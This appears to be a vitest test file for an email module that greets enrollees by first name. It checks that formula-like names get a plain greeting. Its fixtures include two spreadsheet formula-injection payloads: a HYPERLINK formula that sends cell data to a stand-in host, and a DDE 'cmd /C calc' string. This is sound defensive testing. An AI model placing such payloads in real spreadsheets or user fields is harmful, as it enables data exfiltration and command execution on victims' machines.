import { describe, expect, it } from 'vitest';
import { enrolmentConfirmation, firstNameOf } from '../../../functions/domain/emails';
import { greeting, partnerFirstName } from '../../../functions/domain/emails/format';

/**
 * QA: names are stored as typed, and a formula-like one gave the greeting a fragment of itself:
 * `=HYPERLINK("http://evil.test/?x="&A1,"Click me")` was greeted `Hello "Click,` (the word after
 * its comma, read as "Last, First"), `+SUM(1+1)*cmd|' /C calc'!A0` as `Hello +SUM(1+1)*cmd|',`.
 */
const HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")';
const SUM = "+SUM(1+1)*cmd|' /C calc'!A0";

describe('a first name from a name that gives none', () => {
  it('greets plainly when the first word is no name: a formula, a quoted fragment, no letter at all', () => {
    for (const name of [HYPERLINK, SUM, '-2+3', '@SUM(A1)', '"Click me"', "'Ada", '12345', '—']) expect(greeting(name)).toBe('Hello,');
  });

  it('mentions such a person by what a spreadsheet shows of the name, never by its formula: else "your partner"', () => {
    expect(firstNameOf(HYPERLINK)).toBe('Click');
    expect(partnerFirstName(`  ${SUM} `)).toBe('your partner');
    // What matches names (an erasure, a reply naming a partner) still gets the whole name, never a stand-in.
    expect(firstNameOf(`  ${SUM} `)).toBe(SUM);
    // Not a formula: a fragment in quotes or no letter at all is still named as stored.
    expect(firstNameOf('"Click me"')).toBe('"Click me"');
    expect(firstNameOf('12345')).toBe('12345');
  });

  it('keeps real first names, short, accented, written "Last, First" or in another script', () => {
    expect(greeting('Ada Lovelace')).toBe('Hello Ada,');
    expect(greeting('Lovelace, Ada')).toBe('Hello Ada,');
    expect(greeting('J Smith')).toBe('Hello J,');
    expect(greeting("O'Brien, Siobhán")).toBe('Hello Siobhán,');
    expect(greeting('李 小龙')).toBe('Hello 李,');
    expect(firstNameOf('Ada Lovelace, Jr.')).toBe('Ada');
  });

  it('the confirmation email greets such a person plainly, in both parts', () => {
    const email = enrolmentConfirmation({
      to: { name: HYPERLINK, timeZone: 'Europe/London' },
      program: { name: 'Spring Cohort 2027', admin: { name: 'Priya Shah', email: 'priya.shah@example.org' } },
      role: 'mentor',
      sharesProgressWithManager: false,
    });
    expect(email.text).toContain('\nHello,\n');
    expect(email.text).not.toContain('Click');
    expect(email.html).toContain('>Hello,</p>');
  });
});
